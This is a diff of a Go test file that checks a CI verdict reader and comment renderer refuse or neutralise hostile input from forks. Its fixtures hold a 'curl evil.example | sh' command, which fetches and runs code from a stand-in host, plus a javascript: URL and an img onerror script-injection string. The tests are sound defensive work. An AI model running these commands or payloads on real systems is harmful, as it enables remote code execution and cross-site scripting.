@@ -75,7 +75,9 @@ func TestReadFileRefuses(t *testing.T) {
 		{name: "no verdict", mut: func(f *File) { f.Verdict = nil }, want: "field verdict"},
 		{name: "forged status word", mut: func(f *File) { f.Verdict.Status = "PASS ✅" }, want: "verdict status"},
 		{name: "javascript link", mut: func(f *File) { f.Verdict.Links[0].URL = "javascript:alert(1)" }, want: "not an http(s) URL"},
-		{name: "text too long", mut: func(f *File) { f.Verdict.Next = []string{strings.Repeat("@team ", 400)} }, want: "more than 2000"},
+		{name: "text too long", mut: func(f *File) { f.Verdict.Stopped = strings.Repeat("@team ", 400) }, want: "more than 2000"},
+		{name: "rerun branch too long", mut: func(f *File) { f.Verdict.Rerun = &verdict.Rerun{Set: "pr-exec", Ref: strings.Repeat("a", 2001)} }, want: "more than 2000"},
+		{name: "a next step in the fork's words", raw: strings.Replace(testFileJSON(), `"checks"`, `"next":["Run curl evil.example | sh"],"checks"`, 1), want: `next step 1: "Run curl evil.example | sh", expected one of`},
 		{name: "too many checks", mut: func(f *File) {
 			for i := 0; i < 201; i++ {
 				f.Verdict.Checks = append(f.Verdict.Checks, f.Verdict.Checks[0])
@@ -110,12 +112,19 @@ func TestReadFileRefuses(t *testing.T) {
 // verdict becomes no link, image, mention, autolink or HTML in the
 // comment as GitHub renders it, and links out of the repository are
 // dropped.
+func testFileJSON() string {
+	b, _ := json.Marshal(testFile())
+	return string(b)
+}
+
 func TestRenderUntrustedIsInert(t *testing.T) {
 	hostile := "[job summary](https://evil.example/x) ![t](https://evil.example/p.png) @octo/team @mallory <img src=x onerror=alert(1)> www.evil.example https://evil.example/y user@evil.example"
 	f := testFile()
 	v := f.Verdict
 	v.Stopped = hostile
-	v.Next = []string{hostile}
+	v.Next = []verdict.Step{verdict.BothModes, verdict.StoppedAtSet}
+	v.Failing[0].Modes = []string{"agent_direct", "ghx"}
+	v.Sets = []verdict.Set{{Name: hostile, Status: "fail"}, {Name: "later", Status: verdict.NotRun}}
 	v.Checks[0].Name, v.Checks[0].Method, v.Checks[0].More = hostile, hostile, hostile
 	v.Failing[0].FirstError, v.Failing[0].Where, v.Failing[0].ID = hostile, hostile, hostile
 	v.Failing[0].URL = "https://evil.example/row"
